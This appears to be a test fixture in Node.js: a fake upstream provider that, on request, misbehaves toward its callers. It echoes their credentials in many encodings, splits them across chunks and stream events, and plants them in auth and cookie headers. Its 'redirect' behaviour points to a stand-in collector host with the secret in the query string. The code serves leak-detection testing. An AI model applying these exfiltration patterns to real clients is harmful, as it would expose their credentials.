// @ts-check
// The ways a provider can go wrong or be turned against its callers, on request: a header
// `x-stand-in: <command>` or a JSON member `"x_stand_in": "<command>"`. Each says below what it does.
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { setTimeout as wait } from "node:timers/promises";
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { sendJson } from "./stand-in-answers.mjs";

/**
 * @typedef {import("node:http").ServerResponse} ServerResponse
 *
 * @typedef {object} Situation
 * @property {ServerResponse} response
 * @property {import("./credential-check.mjs").Secrets} secrets - What the caller authenticated with.
 * @property {Record<string, unknown>} json
 * @property {number} delayMs
 *
 * @typedef {(situation: Situation, argument: string) => void | Promise<void>} Misbehaviour
 */

/**
 * Every form in which an upstream might plausibly repeat `secret`, each under its name. Base64 is
 * given at its three alignments, because a secret inside a larger encoded text starts anywhere.
 *
 * @param {string} secret
 * @returns {Record<string, string>}
 */
export function encodingsOf(secret) {
  const bytes = Buffer.from(secret);
  const every = [...bytes].map((byte) => byte.toString(16).padStart(2, "0"));
  return {
    raw: secret,
    base64: bytes.toString("base64"),
    base64Shifted1: Buffer.concat([Buffer.from("u"), bytes, Buffer.from("ps")]).toString("base64"),
    base64Shifted2: Buffer.concat([Buffer.from("us"), bytes, Buffer.from("p")]).toString("base64"),
    base64url: bytes.toString("base64url"),
    hex: bytes.toString("hex"),
    hexUpper: bytes.toString("hex").toUpperCase(),
    percent: encodeURIComponent(secret),
    percentEvery: every.map((pair) => `%${pair}`).join(""),
    jsonEscaped: every.map((pair) => `\\u00${pair}`).join(""),
    htmlDecimal: [...bytes].map((byte) => `&#${byte};`).join(""),
    htmlHex: every.map((pair) => `&#x${pair};`).join(""),
  };
}

/** @param {import("./credential-check.mjs").Secrets} secrets */
function echoText(secrets) {
  const lines = Object.entries(secrets).flatMap(([placeholder, secret]) =>
    Object.entries(encodingsOf(secret)).map(([form, text]) => `${placeholder} ${form}: ${text}`),
  );
  return `you sent me\n${lines.join("\n")}\nthe end\n`;
}

/** @param {import("./credential-check.mjs").Secrets} secrets */
function echoHeaders(secrets) {
  return Object.fromEntries(
    Object.entries(secrets).flatMap(([placeholder, secret]) =>
      Object.entries(encodingsOf(secret)).map(([form, text]) => [
        `x-echo-${placeholder}-${form}`.toLowerCase().replaceAll("_", "-"),
        text,
      ]),
    ),
  );
}

/** @type {Readonly<Record<string, (bytes: Buffer) => Buffer>>} */
const COMPRESSORS = { gzip: gzipSync, deflate: deflateSync, br: brotliCompressSync };

/** Writes `bytes` a few at a time, so that anything in them straddles chunks. */
/** @param {ServerResponse} response @param {Buffer} bytes */
async function sendInPieces(response, bytes) {
  for (let at = 0; at < bytes.length; ) {
    const size = 1 + (at % 13);
    response.write(bytes.subarray(at, at + size));
    at += size;
    // A turn of the event loop between writes makes separate packets of them, mostly.
    if (at % 7 === 0) await wait(0);
    if (response.destroyed) return;
  }
  response.end();
}

/** @param {number} bytes */
function* blocks(bytes) {
  const block = Buffer.alloc(65_536, "0123456789abcdef");
  for (let left = bytes; left > 0; left -= block.length) {
    yield left < block.length ? block.subarray(0, left) : block;
  }
}

/** @type {Readonly<Record<string, Misbehaviour>>} */
const MISBEHAVIOURS = {
  /** Repeats the credential in headers and body, in every encoding, in small pieces. */
  async echo({ response, secrets }) {
    response.writeHead(200, { "content-type": "text/plain", ...echoHeaders(secrets) });
    await sendInPieces(response, Buffer.from(echoText(secrets)));
  },

  /** `echo-encoded:gzip`, `:deflate`, `:br`: the same, compressed, though nobody asked for it. */
  async "echo-encoded"({ response, secrets }, coding) {
    const compress = COMPRESSORS[coding];
    if (compress === undefined) throw new Error(`no content coding \`${coding}\``);
    response.writeHead(200, { "content-type": "text/plain", "content-encoding": coding });
    await sendInPieces(response, compress(Buffer.from(echoText(secrets))));
  },

  /** Repeats the credential in the events of a stream, half in one event's bytes, half in the next. */
  async "echo-events"({ response, secrets, delayMs }) {
    response.writeHead(200, { "content-type": "text/event-stream" });
    for (const secret of Object.values(secrets)) {
      const middle = Math.floor(secret.length / 2);
      response.write(`data: your key is ${secret.slice(0, middle)}`);
      await wait(delayMs);
      response.write(`${secret.slice(middle)} indeed\n\n`);
      await wait(delayMs);
    }
    response.end("data: [DONE]\n\n");
  },

  /** `redirect` or `redirect:<location>`: sends the caller elsewhere, the credential in the query. */
  redirect({ response, secrets }, location) {
    const [secret = ""] = Object.values(secrets);
    const target = location || `https://collector.example/?k=${encodeURIComponent(secret)}`;
    response.writeHead(302, { location: target }).end();
  },

  /** Hands out credentials of its own in the headers that carry them. */
  "set-auth-headers"({ response, secrets }) {
    const [secret = ""] = Object.values(secrets);
    response.writeHead(200, {
      "content-type": "application/json",
      authorization: `Bearer ${secret}`,
      "proxy-authorization": `Bearer ${secret}`,
      "www-authenticate": `Bearer realm="${secret}"`,
      "proxy-authenticate": "Basic",
      "x-api-key": secret,
      "set-cookie": [`session=${secret}`, "other=1"],
      "x-request-id": "harmless",
    });
    response.end("{}");
  },

  /** Never answers. */
  hang() {},

  /** Answers, says something, and never ends. */
  "hang-mid-body"({ response }) {
    response.writeHead(200, { "content-type": "text/plain" });
    response.write("this is the beginning");
  },

  /** Closes the connection instead of answering. */
  reset({ response }) {
    response.destroy();
  },

  /** Promises more than it sends, then closes the connection. */
  async "reset-mid-body"({ response }) {
    response.writeHead(200, { "content-type": "text/plain", "content-length": "1000" });
    response.write("this is the beginning");
    await wait(20);
    response.destroy();
  },

  /** A few bytes now and then: two seconds in all. */
  async slow({ response }) {
    response.writeHead(200, { "content-type": "text/plain" });
    for (let piece = 0; piece < 20 && !response.destroyed; piece++) {
      response.write(`piece ${piece}\n`);
      await wait(100);
    }
    response.end();
  },

  /** `big:<bytes>`: that many bytes, as fast as they are taken and no faster. */
  async big({ response }, size) {
    response.writeHead(200, { "content-type": "application/octet-stream" });
    await pipeline(Readable.from(blocks(Number(size))), response);
  },

  /** `status:<number>`: that status and a JSON body. */
  status({ response }, status) {
    sendJson(response, Number(status), { error: { type: "as_asked", status: Number(status) } });
  },
};

/**
 * @param {string} command - `<name>` or `<name>:<argument>`.
 * @param {Situation} situation
 */
export async function misbehave(command, situation) {
  const [name = "", ...rest] = command.split(":");
  const behaviour = MISBEHAVIOURS[name];
  if (behaviour === undefined) {
    sendJson(situation.response, 400, { error: `no stand-in behaviour \`${name}\`` });
    return;
  }
  await behaviour(situation, rest.join(":"));
}
